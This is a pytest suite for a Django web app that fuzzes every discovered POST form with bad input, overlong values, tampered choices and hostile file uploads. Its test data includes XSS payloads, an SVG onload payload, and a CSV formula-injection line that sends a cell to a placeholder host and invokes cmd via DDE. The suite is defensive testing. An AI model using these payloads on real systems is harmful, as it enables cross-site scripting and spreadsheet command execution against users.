"""Bad input on every form: a clear message, what was typed is kept, never a 500.

The forms are found automatically: every page of ours that the walk reaches is opened as a
persona allowed to see it, and every POST form on it (except the header's language and
log-out buttons) is filled with bad values, one kind at a time: bad text in the text fields,
values just longer than their column, tampered choices and hidden values, and hostile files
(huge, malformed, CSVs that break the parser or its limits). All data is made up.
"""

from __future__ import annotations

import html
from collections.abc import Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from typing import Any

import pytest
from django.contrib.auth.tokens import default_token_generator
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils.encoding import force_bytes
from django.utils.http import urlsafe_base64_encode

from tests.conftest import World, client_for
from tests.test_access_walk import ALLOWED_GET, PUBLIC, build_routes, walk_world  # noqa: F401

BAD_VALUES = {
    "empty": "",
    "too_long": "lang " * 1200,
    "wrong_type": "@@@ geen-geldige-waarde ###",
    "script": '<script>alert("x")</script><img src=x onerror=alert(1)>',
    "odd_unicode": "Zoë \u202eeslaf\u202c \x00 \U0001f600 \ufeff \ufdfd \U0001d4e9",
    "huge": "groot " * 60_000,  # 360 KB in every field
}
LONG_EMAIL = "a" * 64 + "@" + "b" * 63 + "." + "c" * 63 + "." + "d" * 59 + ".nl"  # 255 > 254
LONG_URL = "https://voorbeeld.example/" + "pad/" * 60  # 266 characters, well-formed
TAMPERED = ["99999999999999999999", "geen-keuze\x00"]  # an overflowing id; no URL, a NUL
OK_TEXT = "Zoë de Vries (fictief)"
TEXT_TYPES = {"text", "email", "url", "password", "search", "tel", "number", ""}
SKIP_ACTIONS = {"/taal/", "/account/uitloggen/"}


@dataclass
class Form:
    action: str
    fields: dict[str, str] = field(default_factory=dict)  # name -> input type
    selects: dict[str, str] = field(default_factory=dict)  # name -> first non-empty option
    checkboxes: list[str] = field(default_factory=list)
    files: list[str] = field(default_factory=list)


class FormParser(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.forms: list[Form] = []
        self._form: Form | None = None
        self._select: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs}
        if tag == "form" and a.get("method", "get").lower() == "post":
            self._form = Form(action=a.get("action", ""))
        elif self._form is None:
            return
        elif tag == "input" and a.get("name") and a.get("name") != "csrfmiddlewaretoken":
            kind = a.get("type", "text").lower()
            if kind == "checkbox":
                self._form.checkboxes.append(a["name"])
            elif kind == "file":
                self._form.files.append(a["name"])
            elif kind in TEXT_TYPES:
                self._form.fields[a["name"]] = kind
            elif kind == "hidden":
                self._form.selects[a["name"]] = a.get("value", "")
        elif tag == "textarea" and a.get("name"):
            self._form.fields[a["name"]] = "textarea"
        elif tag == "select" and a.get("name"):
            self._select = a["name"]
        elif tag == "option" and self._select and a.get("value"):
            self._form.selects.setdefault(self._select, a["value"])

    def handle_endtag(self, tag: str) -> None:
        if tag == "select":
            self._select = None
        elif tag == "form" and self._form is not None:
            self.forms.append(self._form)
            self._form = None


def _pages(world: World) -> list[tuple[str, str, str]]:
    """(route name, persona, url) of every non-admin page a persona may open."""
    pages = []
    for route in build_routes(world):
        if route.name.startswith("admin:"):
            continue  # Django's own admin forms
        if route.name in ALLOWED_GET:
            persona = sorted(ALLOWED_GET[route.name] - {"lead"} or ALLOWED_GET[route.name])[0]
        elif route.name in PUBLIC:
            persona = "anonymous"
        else:
            continue
        pages.append((route.name, persona, route.url))
    return pages


def _fresh_reset_url(world: World) -> str:
    """Logging personas in changes last_login, which ends earlier reset links: make one now."""
    user = world.care_worker
    user.refresh_from_db()
    return reverse(
        "accounts:password_reset_confirm",
        kwargs={
            "uidb64": urlsafe_base64_encode(force_bytes(user.pk)),
            "token": default_token_generator.make_token(user),
        },
    )


def _forms_on(client: Client, url: str) -> tuple[str, list[Form]]:
    response = client.get(url, follow=True)
    final_url = response.redirect_chain[-1][0] if response.redirect_chain else url
    if not response.get("Content-Type", "").startswith("text/html"):
        return final_url, []  # a download (PDF, JSON): no forms
    parser = FormParser()
    parser.feed(response.content.decode())
    forms = [f for f in parser.forms if f.action not in SKIP_ACTIONS]
    return final_url, forms


@pytest.mark.parametrize("kind", list(BAD_VALUES))
def test_every_form_handles_bad_input(walk_world: World, settings, kind: str) -> None:  # noqa: F811
    settings.AXES_ENABLED = False  # repeated wrong log-ins are tested in test_accounts
    value = BAD_VALUES[kind]
    failures: list[str] = []
    forms_tried = 0
    for name, persona, url in _pages(walk_world):
        if name == "accounts:password_reset_confirm":
            url = _fresh_reset_url(walk_world)
        client = client_for(walk_world.persona(persona))
        final_url, forms = _forms_on(client, url)
        for form in forms:
            if not form.fields:
                continue
            forms_tried += 1
            data: dict[str, str] = dict(form.selects)
            for field_name, field_type in form.fields.items():
                if field_type == "password" and kind != "empty":
                    data[field_name] = "Niet-het-goede-wachtwoord-1"
                else:
                    data[field_name] = value
            for box in form.checkboxes:
                data[box] = "on"
            target = form.action or final_url
            response = client.post(target, data)
            where = f"{kind} -> {name} ({target}) as {persona}: {response.status_code}"
            if response.status_code >= 500:
                failures.append(f"{where}: server error")
                continue
            body = response.content.decode()
            if "<script>alert" in body or "<img src=x" in body:
                failures.append(f"{where}: script came back unescaped")
            if response.status_code == 200:
                if "aria-invalid" not in body and "utrecht-alert--error" not in body:
                    failures.append(f"{where}: no error message shown")
                for field_name, field_type in form.fields.items():
                    if field_type == "password" or not value.strip():
                        continue
                    if html.escape(value.strip(), quote=True) not in body and (
                        html.escape(value, quote=True) not in body
                    ):
                        failures.append(f"{where}: typed value of {field_name} was lost")
            elif response.status_code == 302:
                followed = client.get(response["Location"])
                if "<script>alert" in followed.content.decode():
                    failures.append(f"{where}: script shown unescaped after saving")
    assert forms_tried >= 11, f"only {forms_tried} forms found; the discovery is broken"
    assert not failures, "\n".join(failures)


def _every_form(world: World) -> Iterator[tuple[str, str, Client, str, Form]]:
    """(route name, persona, client, page url, form) for every POST form the walk reaches."""
    for name, persona, url in _pages(world):
        if name == "accounts:password_reset_confirm":
            url = _fresh_reset_url(world)
        client = client_for(world.persona(persona))
        final_url, forms = _forms_on(client, url)
        for form in forms:
            yield name, persona, client, final_url, form


def _ordinary(form: Form) -> dict[str, Any]:
    """What a person would fill in: a plain value everywhere, the first choice of a list."""
    data: dict[str, Any] = dict(form.selects)
    for field_name, field_type in form.fields.items():
        data[field_name] = "Niet-het-goede-wachtwoord-1" if field_type == "password" else OK_TEXT
    for box in form.checkboxes:
        data[box] = "on"
    return data


def test_values_just_longer_than_their_column_get_a_message(walk_world: World, settings) -> None:  # noqa: F811
    """A well-formed e-mail address or link longer than its column: a message, never a 500
    (PostgreSQL refuses what is longer than a varchar; the form must say so first)."""
    settings.AXES_ENABLED = False
    failures: list[str] = []
    tried = 0
    for name, persona, client, final_url, form in _every_form(walk_world):
        long_fields = {f: t for f, t in form.fields.items() if t in ("email", "url")}
        if not long_fields:
            continue
        tried += 1
        data = _ordinary(form)
        for field_name, field_type in long_fields.items():
            data[field_name] = LONG_EMAIL if field_type == "email" else LONG_URL
        target = form.action or final_url
        response = client.post(target, data)
        if response.status_code >= 500:
            failures.append(f"{name} ({target}) as {persona}: server error")
        elif response.status_code == 302:
            failures.append(f"{name} ({target}) as {persona}: saved a value longer than allowed")
    assert tried >= 5, f"only {tried} forms with e-mail or link fields found"
    assert not failures, "\n".join(failures)


def test_tampered_choices_and_hidden_values_never_cause_a_server_error(
    walk_world: World,  # noqa: F811
    settings,
) -> None:
    """Every list, hidden value and tick box sent with a value the page never offered:
    overflowing numbers, ids that do not exist, NUL bytes."""
    settings.AXES_ENABLED = False
    failures: list[str] = []
    tried = 0
    found = [found for found in _every_form(walk_world) if found[4].selects or found[4].checkboxes]
    for value in TAMPERED:
        for name, persona, client, final_url, form in found:
            tried += 1
            data = _ordinary(form)
            for field_name in [*form.selects, *form.checkboxes]:
                data[field_name] = value
            target = form.action or final_url
            response = client.post(target, data)
            if response.status_code >= 500:
                failures.append(f"{value!r} -> {name} ({target}) as {persona}: server error")
    assert tried >= 20 * len(TAMPERED), f"only {tried} forms with choices found"
    assert not failures, "\n".join(failures)


def _csv(text: str) -> bytes:
    return ("name,vendor,purpose,status,data_location\n" + text).encode()


HOSTILE_FILES = {
    "huge.csv": _csv("Groot (fictief),X,Doel,allowed,eu\n" * 120_000),  # ~4 MB
    "huge.png": b"\x89PNG\r\n\x1a\n" + b"\x00" * 6_000_000,
    "empty.csv": b"",
    "binary.csv": bytes(range(256)) * 400,
    "nul.csv": _csv("Nul\x00 (fictief),X,Doel,allowed,eu\n"),
    "quoted-field.csv": _csv('Groot (fictief),X,"' + "a" * 140_000 + '",allowed,eu\n'),
    "open-quote.csv": _csv('Open (fictief),X,"nooit gesloten\n' + "x" * 50_000),
    "too-many-rows.csv": _csv(
        "".join(f"Tool {i} (fictief),X,Doel,allowed,eu\n" for i in range(2_001))
    ),
    "many-columns.csv": _csv(",".join(["x"] * 50_000) + "\n"),
    "formula.csv": _csv('=HYPERLINK("http://x"&A1;"Klik"),+cmd|\' /C calc\'!A0,-1,@x,eu\n'),
    "cp1252.csv": "name,vendor,purpose,status\nZoë (fictief),X,Doel,allowed\n".encode("cp1252"),
    "utf16.csv": "name,vendor\nZoë,X\n".encode("utf-16"),
    "not-an-image.png": b"<svg onload=alert(1)>",
    "truncated.png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00",
    "fake.pdf": b"%PDF-1.4\n" + b"\x00" * 1000,
    "zip-bomb-like.zip": b"PK\x03\x04" + b"\x00" * 5000,
}


def test_every_file_field_handles_hostile_files(walk_world: World, settings) -> None:  # noqa: F811
    """Huge and malformed files in every file field: a message or a refusal, never a 500."""
    settings.AXES_ENABLED = False
    failures: list[str] = []
    fields_tried: set[str] = set()
    for name, persona, client, final_url, form in _every_form(walk_world):
        for field_name in form.files:
            fields_tried.add(f"{name}.{field_name}")
            for filename, content in HOSTILE_FILES.items():
                data = _ordinary(form)
                data[field_name] = SimpleUploadedFile(filename, content)
                target = form.action or final_url
                response = client.post(target, data)
                if response.status_code >= 500:
                    failures.append(f"{filename} -> {name} ({target}) as {persona}: server error")
                elif b"<svg onload" in response.content:
                    failures.append(f"{filename} -> {name}: file content shown unescaped")
    assert len(fields_tried) >= 2, f"only these file fields found: {fields_tried}"
    assert not failures, "\n".join(failures)


def test_names_with_markup_or_control_characters_are_refused(world: World) -> None:
    client = client_for(world.care_worker)
    for bad in ["<b>Sanne</b>", "San\u202ene", "San\x07ne"]:
        response = client.post("/account/", {"full_name": bad, "preferred_language": "nl"})
        assert response.status_code == 200
        assert response.context["form"].errors["full_name"]
    world.care_worker.refresh_from_db()
    assert world.care_worker.full_name == "Sanne Zorgmedewerker"
